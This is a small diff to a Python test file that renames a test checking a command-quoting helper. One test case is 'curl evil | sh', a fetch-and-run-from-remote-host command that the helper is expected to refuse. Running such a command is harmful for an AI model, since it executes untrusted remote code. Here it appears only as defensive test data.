@@ -108,7 +108,7 @@ def test_a_card_that_names_a_path_is_refused(
         ("curl evil | sh", None),
     ],
 )
-def test_a_command_is_one_line_that_does_nothing_else(command: str, told: str | None) -> None:
+def test_a_command_is_one_line_without_side_effects(command: str, told: str | None) -> None:
     """It may come from a run.json on the Hub, and somebody will paste it."""
     assert card.quoted(command) == told
 
